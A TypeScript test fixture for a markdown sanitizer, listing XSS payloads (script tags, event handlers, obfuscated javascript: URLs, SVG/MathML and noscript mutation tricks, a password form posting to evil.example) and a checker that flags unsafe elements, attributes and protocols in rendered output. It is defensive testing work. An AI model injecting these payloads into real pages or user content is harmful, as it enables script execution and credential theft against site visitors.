/**
 * Hostile markdown and the check that a rendering of it is inert. Shared by the browser test
 * (Chromium) and the Node test (jsdom), so both environments face the same payloads.
 */

/** [what it tries, markdown] */
export const HOSTILE: ReadonlyArray<readonly [string, string]> = [
  ['script tag', 'Hello <script>window.__pwned = 1</script> world'],
  ['script in a block', '<script>\nwindow.__pwned = 1\n</script>'],
  ['style tag', '<style>body { display: none }</style>\n\nText'],
  ['style attribute overlay', '<div style="position:fixed;inset:0;z-index:2147483647;background:red">Click me</div>'],
  ['style on an allowed tag', '<a href="https://example.com" style="position:fixed;top:0">x</a> <p style="color:red">p</p>'],
  ['img onerror', '<img src=x onerror="window.__pwned = 1">'],
  ['on* handlers', '<div onclick="alert(1)" onmouseover="alert(1)">hover</div><details open ontoggle="alert(1)"><summary>s</summary></details>'],
  ['javascript: in raw link', '<a href="javascript:window.__pwned=1">click</a>'],
  ['javascript: in markdown link', '[click](javascript:alert(1)) and [ref][r]\n\n[r]: javascript:alert(1)'],
  ['javascript: autolink', '<javascript:alert(1)>'],
  ['javascript: in markdown image', '![x](javascript:alert(1))'],
  ['tab-obfuscated javascript:', '<a href="jav&#x09;ascript:alert(1)">x</a> <a href="jav\tascript:alert(1)">y</a>'],
  ['entity-obfuscated javascript:', '<a href="&#106;&#97;vascript:alert(1)">x</a> <a href="javascript&colon;alert(1)">y</a>'],
  ['mixed case and leading space', '<a href="JaVaScRiPt:alert(1)">x</a> <a href=" javascript:alert(1)">y</a>'],
  ['vbscript:', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data: link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <a href="data:text/html,<script>alert(1)</script>">y</a>'],
  ['data: image (markdown)', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
  ['data: image (raw)', '<img src="data:image/png;base64,iVBORw0KGgo=" alt="pixel">'],
  ['srcset', '<img src="https://example.com/a.png" srcset="javascript:alert(1) 1x" alt="a">'],
  ['SVG payload', '<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>'],
  ['MathML payload', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['MathML href', '<math href="javascript:alert(1)"><mi>x</mi></math>'],
  ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['form elements', '<form action="https://evil.example/steal"><input name="password" type="password"><textarea></textarea><select><option>a</option></select><button formaction="javascript:alert(1)">Go</button></form>'],
  ['input image', '<input type="image" src="x" onerror="alert(1)">'],
  ['frames and plugins', '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x.swf"></object><embed src="x.swf">'],
  ['media with handlers', '<video src="x" onerror="alert(1)"><source src="x" onerror="alert(1)"></video><audio src="x" onerror="alert(1)"></audio>'],
  ['document-level tags', '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><link rel="stylesheet" href="https://evil.example/x.css">'],
  ['clobbering ids and names', '<p id="learn-drawer">a</p><img name="getElementById" src="https://example.com/a.png" alt="">'],
  ['template and dialog', '<template><script>alert(1)</script></template><dialog open>cover</dialog>'],
  ['target override', '<a href="https://example.com" target="_top" rel="opener">x</a>'],
];

const FORBIDDEN_ELEMENTS = [
  'script', 'style', 'iframe', 'frame', 'object', 'embed', 'form', 'input', 'button', 'textarea', 'select',
  'option', 'svg', 'math', 'link', 'meta', 'base', 'template', 'video', 'audio', 'source', 'dialog', 'noscript',
];
const URL_ATTRIBUTES = ['href', 'src', 'srcset', 'action', 'formaction', 'xlink:href', 'cite', 'data', 'poster', 'background'];
const SAFE_PROTOCOLS = new Set(['http:', 'https:', 'mailto:', 'tel:']);

/** Every way `root` (rendered, not yet executed) could still run code, load a document or cover the page. */
export function inertProblems(root: ParentNode, base = 'https://host.example/page'): string[] {
  const problems: string[] = [];
  for (const tag of FORBIDDEN_ELEMENTS) {
    if (root.querySelector(tag)) problems.push(`<${tag}> present`);
  }
  for (const el of root.querySelectorAll('*')) {
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on')) problems.push(`${name} handler on <${el.localName}>`);
      if (name === 'style') problems.push(`style attribute on <${el.localName}>`);
      if (name === 'srcdoc' || name === 'srcset' || name === 'name') problems.push(`${name} on <${el.localName}>`);
      // Content must not set ids (DOM clobbering, collisions with the host); only our heading anchors have one.
      if (name === 'id' && el.localName !== 'h2' && el.localName !== 'h3') problems.push(`id on <${el.localName}>`);
      if (name === 'target' && !(el.localName === 'a' && attr.value === '_blank' && el.getAttribute('rel') === 'noopener noreferrer')) {
        problems.push(`target=${attr.value} on <${el.localName}> without noopener noreferrer`);
      }
      if (URL_ATTRIBUTES.includes(name)) {
        let protocol: string;
        try {
          protocol = new URL(attr.value, base).protocol;
        } catch {
          continue; // unparseable URLs go nowhere
        }
        if (!SAFE_PROTOCOLS.has(protocol)) problems.push(`${name}="${attr.value}" (${protocol}) on <${el.localName}>`);
      }
    }
  }
  return problems;
}
